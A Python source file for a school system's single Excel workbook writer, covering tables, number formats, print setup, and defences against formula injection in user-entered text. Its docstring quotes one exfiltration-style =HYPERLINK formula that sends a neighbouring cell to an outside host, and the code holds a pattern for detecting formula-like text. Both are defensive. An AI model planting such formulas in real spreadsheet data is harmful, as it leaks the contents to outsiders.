"""The one workbook writer: every .xlsx DaoTao hands out (downloads, mailed results packs,
import templates) is built with ``Book`` and its ``Sheet``; no other module writes a workbook.

    book = xlsx.Book(title="...")
    sheet = book.sheet("KetQua")
    sheet.append([title], xlsx.Style(bold=True, size=13))
    sheet.table_header(headings)
    sheet.append([name, xlsx.number(average, xlsx.AVERAGE), xlsx.number(share, xlsx.PERCENT)])
    sheet.finish_table(widths=(28, 14, 14))
    return book.to_bytes()

What people typed stays text
----------------------------
Names, positions, workplaces, survey comments, unit and class names come from people, and a
spreadsheet runs a cell as a formula: ``=HYPERLINK("http://x/?"&B2,"…")`` typed as a name
would send a neighbouring cell away when the office opens the file. openpyxl itself makes
every string that starts with ``=`` a formula cell and ``#N/A``-like strings error cells.
Here every string is written as a string cell, whatever it starts with, so Excel and
LibreOffice show the text and never evaluate it. A text that a spreadsheet would take for a
formula if someone typed it into a cell (optional whitespace then ``= + - @``, or a leading
tab or carriage return, the prefixes OWASP's "CSV injection" page lists) also gets the
cell's ``quotePrefix`` flag: Excel's own mark of a cell typed with a leading apostrophe, so
editing the cell later keeps it text too.

No ``'`` is put in front of such a text, as OWASP advises for CSV: in an xlsx the cell's
type already decides, and a prefix would change what people typed. The grade sheet is read
back and its names compared with the class list, a copied name would carry the quote, and
sorting or searching the sheet would be off. DaoTao writes no CSV, where the prefix is the
only defence.

Formulas are written only from ``Formula`` values, which code builds over the sheet's own
cells (a total row), never from data; workbooks are recalculated on opening.

Characters that XML cannot hold (control characters other than tab, line feed and carriage
return, e.g. a vertical tab pasted from Word) are left out of the text: openpyxl refuses
them, and the download would fail.

Numbers, percentages, dates
---------------------------
Numbers stay numbers so that Excel can add them up; the number formats below make them look
the Vietnamese way. A format code in the file is locale-neutral (``,`` groups thousands and
``.`` marks the decimals *in the code*); Excel and LibreOffice show it with the reader's own
separators, so a Vietnamese installation shows ``1.040``, ``8,0``, ``8,25`` and ``95,75%``.
(A code ``#.##0`` would not group thousands: it asks for decimals.) Dates are shown
``dd/mm/yyyy``. A grade is written with ``GRADE`` (8,0), an average with ``AVERAGE`` (8,25),
a count with ``INTEGER`` (or ``CLASSES`` for classes: 07), a percentage as its fraction
(0.9575) with ``PERCENT``; ``number(value, format)`` makes the cell, empty for ``None``. A
formatted string such as ``"8,0"`` is never written for a number: Excel could not add it
up. Marks that are not numbers (``v`` for absent, ``–``) stay text.

Tables
------
A table's heading row goes in with ``table_header`` (once, or twice for headings in two
rows), its rows with ``append``; ``finish_table`` then keeps the heading in view (frozen
panes), prints it at the top of every page, sets every used column's width (the widths
given, else one from the column's longest value) and sets the page up on A4, as wide as one
page, landscape when the table is too wide for portrait. A sheet that is not one table (a
summary, a guide) names the rows that head it: ``finish_table(header=(1, 2))``.

This module imports no Django.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, fields, replace
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.utils import get_column_letter

CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Number formats (see the module's docstring for why the codes use "," and ".").
INTEGER = "#,##0"  # 1.040
CLASSES = "[=0]0;[<10]00;#,##0"  # class counts under ten with a leading zero: 07
PERCENT = "0.00%"  # 20,16%, from the fraction 0.2016
GRADE = "0.0"  # a grade: 8,0
AVERAGE = "0.00"  # an average: 8,25
DATE = "DD/MM/YYYY"
TEXT = "@"  # a cell typed into later stays text (leading zeros of a phone number)

# What a spreadsheet takes for the start of a formula when it is typed into a cell.
_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@]")
_NUMBERS = (bool, int, float, Decimal)
_DATES = (dt.date, dt.datetime, dt.time)
# Characters across A4 (Excel's column width units, 0,7" margins) in portrait; a table
# wider than that is printed landscape.
PORTRAIT_WIDTH = 100
# The widths ``finish_table`` gives a column from its longest value, when none is given.
_FITTED_WIDTH = (8, 50)
_THIN = Side(style="thin", color="808080")
_BOX = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)


def decimals(places: int) -> str:
    """The format of a number with ``places`` decimals: ``0.0`` shows 9,5."""
    return "0." + "0" * places if places > 0 else "0"


def formula_like(text: str) -> bool:
    """Would a spreadsheet run ``text`` as a formula if it were typed into a cell?"""
    return _FORMULA_START.match(text) is not None


@dataclass(frozen=True)
class Formula:
    """A formula over the sheet's own cells, built by code (``SUM(C2:C9)``, without the
    ``=``). Never made from data: data is text."""

    expression: str


@dataclass(frozen=True)
class Style:
    """How a cell looks. ``color`` and ``fill`` are RRGGBB; ``border`` a thin grey box."""

    bold: bool = False
    italic: bool = False
    size: float | None = None
    color: str | None = None
    fill: str | None = None
    wrap: bool = False
    horizontal: str | None = None
    vertical: str | None = None
    indent: int = 0
    border: bool = False
    number_format: str | None = None

    def __or__(self, other: Style | None) -> Style:
        """This style with what ``other`` sets (its fields that are not the default)."""
        if other is None:
            return self
        changes = {f.name: getattr(other, f.name) for f in fields(other) if getattr(other, f.name) != f.default}
        return replace(self, **changes)


PLAIN = Style()
BOLD = Style(bold=True)
# The header row of the reports' tables.
# The height of one line of a heading, in points (Excel's default row is 15).
HEADING_LINE_HEIGHT = 15
HEADER = Style(bold=True, fill="E8ECF1", horizontal="center", vertical="center", wrap=True)


@dataclass(frozen=True)
class Cell:
    """A value with its own style, in a row given to ``Sheet.append``."""

    value: object
    style: Style | None = None


def number(value, number_format: str) -> Cell:
    """A number cell shown with ``number_format`` (``GRADE``, ``PERCENT``, …); empty for ``None``."""
    return Cell(value, Style(number_format=number_format))


class Sheet:
    """One worksheet of a ``Book``; values go in with ``append`` and ``write`` only."""

    def __init__(self, worksheet):
        self._worksheet = worksheet
        # The last row written to (or appended, even empty), as openpyxl's ``append`` counts.
        self.row = 0
        # The first and last rows of the table's heading (``table_header``).
        self._header: tuple[int, int] | None = None

    def append(self, values: Iterable = (), style: Style | None = None) -> int:
        """Write ``values`` (plain values or ``Cell``) in the row after the last one, each
        with ``style`` (and its own); returns the row's number."""
        self.row += 1
        for column, value in enumerate(values, start=1):
            self.write(self.row, column, value, style)
        return self.row

    def write(self, row: int, column: int, value, style: Style | None = None) -> None:
        """Put ``value`` in the cell: text as text, numbers and dates as such, a ``Formula``
        as a formula."""
        if isinstance(value, Cell):
            style = (style or PLAIN) | value.style
            value = value.value
        cell = self._worksheet.cell(row=row, column=column)
        _put(cell, value)
        if isinstance(value, _DATES) and not (style and style.number_format):
            style = (style or PLAIN) | Style(number_format=DATE)
        if style is not None:
            _apply(cell, style)
        self.row = max(self.row, row)

    def table_header(self, values: Iterable, style: Style | None = HEADER) -> int:
        """Append a heading row of the sheet's table (a second call adds a second heading
        row below the first); returns the row's number."""
        row = self.append(values, style)
        self._header = (self._header[0], row) if self._header and self._header[1] == row - 1 else (row, row)
        return row

    def finish_table(
        self,
        widths: Mapping[str, float] | Sequence[float] = (),
        *,
        header: int | tuple[int, int] | None = None,
        freeze_columns: int = 0,
        landscape: bool | None = None,
    ) -> None:
        """Once the rows are in: keep the heading rows (``table_header``'s, or ``header``:
        a row or the first and last) in view with ``freeze_columns`` columns on the left,
        print them at the top of every page, set the columns' widths (``widths`` as in
        ``widths``; a used column without one gets one from its longest value) and set the
        page up on A4, one page wide, landscape when the columns are wider than portrait
        allows (or as ``landscape`` says)."""
        if header is None:
            header = self._header
        elif isinstance(header, int):
            header = (header, header)
        if header is None:
            raise ValueError("finish_table needs the table's heading rows")
        first, last = header
        self.widths(widths)
        self._fit_widths(first)
        self._fit_heading_heights(first, last)
        self.freeze(f"{get_column_letter(freeze_columns + 1)}{last + 1}")
        self.print_titles(f"{first}:{last}")
        if landscape is None:
            landscape = self.total_width() > PORTRAIT_WIDTH
        self.page_setup(landscape=landscape, a4_fit_width=True)

    def total_width(self) -> float:
        """The width of the used columns, in Excel's units (characters)."""
        dimensions = self._worksheet.column_dimensions
        letters = (get_column_letter(column) for column in range(1, self._worksheet.max_column + 1))
        return sum(dimensions[letter].width or 0 for letter in letters if letter in dimensions)

    def _fit_heading_heights(self, first: int, last: int) -> None:
        """Heading rows tall enough for their wrapped words: a heading wider than its column
        (in characters) takes as many lines as it needs, so that no spreadsheet program draws
        it over the rows below."""
        dimensions = self._worksheet.column_dimensions
        for row in range(first, last + 1):
            lines = 1
            for cell in self._worksheet[row]:
                if cell.value is None:
                    continue
                width = max((dimensions[cell.column_letter].width or 10) - 1, 1)
                text = _shown(cell.value)
                lines = max(lines, sum(max(1, -(-len(part) // int(width))) for part in text.splitlines() or [""]))
            if lines > 1:
                self._worksheet.row_dimensions[row].height = HEADING_LINE_HEIGHT * lines

    def _fit_widths(self, first_row: int) -> None:
        """A width for every used column that has none, from its longest value at or below
        ``first_row`` (a title above the table may run across several columns)."""
        dimensions = self._worksheet.column_dimensions
        lowest, highest = _FITTED_WIDTH
        for column in range(1, self._worksheet.max_column + 1):
            letter = get_column_letter(column)
            if letter in dimensions and dimensions[letter].customWidth:
                continue
            longest = max(
                (
                    max(len(line) for line in _shown(value).splitlines() or [""])
                    for (value,) in self._worksheet.iter_rows(
                        min_row=first_row, min_col=column, max_col=column, values_only=True
                    )
                    if value is not None
                ),
                default=0,
            )
            dimensions[letter].width = min(highest, max(lowest, longest + 2))

    def widths(self, widths: Mapping[str, float] | Sequence[float]) -> None:
        """Column widths: by letter, or a sequence from column A."""
        pairs = widths.items() if isinstance(widths, Mapping) else zip(_letters(), widths, strict=False)
        for letter, width in pairs:
            self._worksheet.column_dimensions[letter].width = width

    def height(self, row: int, height: float) -> None:
        self._worksheet.row_dimensions[row].height = height

    def merge(self, cells: str) -> None:
        self._worksheet.merge_cells(cells)

    def freeze(self, cell: str) -> None:
        """Keep the rows above and the columns left of ``cell`` in view."""
        self._worksheet.freeze_panes = cell

    def print_titles(self, rows: str) -> None:
        """Rows (``"5:5"``) printed at the top of every page."""
        self._worksheet.print_title_rows = rows

    def auto_filter(self, cells: str) -> None:
        self._worksheet.auto_filter.ref = cells

    def page_setup(self, *, landscape: bool = False, a4_fit_width: bool = False) -> None:
        """Orientation; with ``a4_fit_width`` on A4, as wide as one page and as long as needed."""
        setup = self._worksheet.page_setup
        setup.orientation = "landscape" if landscape else "portrait"
        if a4_fit_width:
            setup.paperSize = self._worksheet.PAPERSIZE_A4
            setup.fitToWidth = 1
            setup.fitToHeight = 0
            self._worksheet.sheet_properties.pageSetUpPr.fitToPage = True


class Book:
    """A workbook being written; ``sheet`` adds its worksheets in order, ``to_bytes`` saves it."""

    def __init__(self, *, title: str | None = None, creator: str | None = None):
        self._workbook = Workbook()
        self._sheets: list[Sheet] = []
        if title:
            self._workbook.properties.title = _text(title)
        if creator:
            self._workbook.properties.creator = _text(creator)

    def sheet(self, name: str) -> Sheet:
        """A new worksheet named ``name`` (at most 31 characters, no ``[]:*?/\\``)."""
        worksheet = self._workbook.active if not self._sheets else self._workbook.create_sheet()
        worksheet.title = name
        sheet = Sheet(worksheet)
        self._sheets.append(sheet)
        return sheet

    def to_bytes(self) -> bytes:
        # Formulas are saved without their values: the spreadsheet computes them on opening.
        self._workbook.calculation.fullCalcOnLoad = True
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()


def _letters():
    column = 0
    while True:
        column += 1
        yield get_column_letter(column)


def _text(value) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def _shown(value) -> str:
    """About what a cell shows, for its column's width: a date as dd/mm/yyyy, a number with
    its decimals and separators."""
    if isinstance(value, _DATES):
        return "00/00/0000"
    if isinstance(value, float):
        return f"{value:,.2f}"
    if isinstance(value, int | Decimal):
        return f"{value:,}"
    return str(value)


def _put(cell, value) -> None:
    if value is None or isinstance(value, _NUMBERS + _DATES):
        cell.value = value
    elif isinstance(value, Formula):
        cell.value = f"={value.expression}"
    else:
        text = _text(value)
        if not text:
            cell.value = None  # an empty text is an empty cell
            return
        cell.value = text
        # openpyxl types "=..." as a formula and "#N/A" as an error: text is text.
        cell.data_type = "s"
        if formula_like(text):
            cell.quotePrefix = True


def _apply(cell, style: Style) -> None:
    if style.bold or style.italic or style.size or style.color:
        cell.font = Font(bold=style.bold, italic=style.italic, size=style.size, color=style.color)
    if style.fill:
        cell.fill = PatternFill("solid", fgColor=style.fill)
    if style.wrap or style.horizontal or style.vertical or style.indent:
        cell.alignment = Alignment(
            horizontal=style.horizontal, vertical=style.vertical, wrap_text=style.wrap or None, indent=style.indent
        )
    if style.border:
        cell.border = _BOX
    if style.number_format:
        cell.number_format = style.number_format
